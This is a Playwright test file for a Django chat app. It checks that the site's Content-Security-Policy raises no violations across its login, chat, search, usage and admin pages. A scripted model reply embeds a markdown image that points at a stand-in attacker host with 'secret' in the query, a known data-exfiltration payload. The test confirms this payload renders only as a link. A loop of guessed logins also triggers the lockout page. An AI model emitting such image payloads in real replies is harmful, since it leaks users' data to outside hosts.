"""The Content-Security-Policy holds in a real browser: every page loads, and works, with no violation
reported — not by the page's own code, not by htmx, not by the admin."""

from __future__ import annotations

import re
import secrets
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import BrowserContext, ConsoleMessage, FilePayload, Page, expect

from tests.browser.conftest import LiveServer, finished_reply, last_reply, send, sign_up, wait_ready
from tests.support.fake_anthropic import End, FakeAnthropic, Text, Wait
from tests.support.files import image_bytes

pytestmark = pytest.mark.browser

# Reported on the console by Chromium ("Refused to ... because it violates the following Content Security
# Policy directive"), and by the page's securitypolicyviolation event, logged by the init script below.
REPORT_VIOLATIONS = """
document.addEventListener("securitypolicyviolation", (e) => {
  const where = `${e.sourceFile}:${e.lineNumber}`;
  console.error(`CSP violation: ${e.violatedDirective} blocked ${e.blockedURI} in ${where}`);
});
"""

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
REPLY = (
    "A table:\n\n| left | centre | right |\n|:-----|:------:|------:|\n| 1 | 2 | 3 |\n\n"
    "Code:\n\n```python\nprint('hi')\n```\n\n"
    "A remote image, shown as a link: ![chart](https://attacker.example/c.png?d=secret)\n\n"
    "A local one: ![dot](data:image/png;base64," + PIXEL + ")"
)


@pytest.fixture
def violations(context: BrowserContext) -> Iterator[list[str]]:
    """Every CSP violation any page of this context reports; the test asserts the list stays empty."""
    seen: list[str] = []

    def on_console(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "CSP violation" in message.text:
            seen.append(f"{message.page.url if message.page else '?'}: {message.text}")

    context.add_init_script(REPORT_VIOLATIONS)
    context.on("console", on_console)
    yield seen


def _visit(page: Page, path: str) -> None:
    response = page.goto(path)
    assert response is not None and response.status < 400, (path, response and response.status)
    page.wait_for_load_state("load")
    page.wait_for_function("() => document.readyState === 'complete'")


def test_every_page_loads_with_no_csp_violation(
    context: BrowserContext, violations: list[str], upstream: FakeAnthropic, chat_server: LiveServer
) -> None:
    page = context.new_page()
    for path in ("/accounts/login/", "/accounts/signup/", "/admin/login/"):
        _visit(page, path)
    username = f"csp-{secrets.token_hex(3)}"
    sign_up(page, username)
    wait_ready(page)

    # A reply while it streams (SSE, the thinking indicator, htmx swaps), then its final rendering.
    # With an attachment: its thumbnail (an image from this site) in the composer and in the message.
    page.set_input_files(
        "#composer-file",
        files=[FilePayload(name="blue.png", mimeType="image/png", buffer=image_bytes("PNG", (60, 40)))],
    )
    expect(page.locator("#composer-attachments .attachment-chip img")).to_be_visible()
    gate = threading.Event()
    upstream.enqueue(Text("Streaming "), Wait(gate, timeout=30), Text(REPLY), End())
    send(page, "Show me everything")
    expect(page.locator("article.msg-user .attachment-thumb img")).to_be_visible()
    expect(last_reply(page).locator(".msg-streaming")).to_contain_text("Streaming")
    gate.set()
    reply = finished_reply(page)
    expect(reply.locator("table th.align-center")).to_have_text("centre")
    expect(reply.locator("table td.align-right")).to_have_css("text-align", "right")  # the class works
    expect(reply.get_by_role("link", name="chart")).to_have_attribute(
        "href", "https://attacker.example/c.png?d=secret"
    )
    expect(reply.locator(".msg-body img")).to_have_count(1)  # only the data: image
    expect(reply.get_by_role("button", name="Copy code")).to_be_visible()  # app.js ran
    conversation = page.url
    match = re.search(r"/c/(\d+)/", conversation)
    assert match
    pk = match.group(1)

    # Search (an htmx swap), the settings panel, then every other page.
    page.get_by_label("Search conversations").fill("every")
    expect(page.locator("#conversation-list").get_by_role("link")).to_have_count(1)
    for path in (
        f"/c/{pk}/",
        f"/c/{pk}/delete/",
        "/accounts/password/",
        "/accounts/password/done/",
        "/usage/",
        "/",
    ):
        _visit(page, path)

    _visit(page, "/usage/")
    expect(page.locator(".legend svg.swatch")).not_to_have_count(0)  # the chart's legend is drawn

    # The admin and the usage dashboard, as staff.
    chat_server.rows("UPDATE auth_user SET is_staff = 1, is_superuser = 1 WHERE username = ?", username)
    for path in (
        "/admin/",
        "/admin/chat/conversation/",
        f"/admin/chat/conversation/{pk}/change/",
        "/admin/auth/user/",
        "/usage/staff/",
    ):
        _visit(page, path)

    # The "too many attempts" page, reached the way an attacker reaches it (then unlocked again, so the
    # other browser tests on this server can still log in from 127.0.0.1).
    login = context.new_page()
    try:
        for _ in range(5):
            _visit(login, "/accounts/login/")
            login.get_by_label("Username").fill(f"nobody-{secrets.token_hex(3)}")
            login.get_by_label("Password").fill("guess")
            login.get_by_role("button", name="Log in").click()
            login.wait_for_load_state("load")
        expect(login.get_by_role("heading", name="Too many attempts")).to_be_visible()
    finally:
        chat_server.rows("DELETE FROM axes_accessattempt")
    assert violations == []
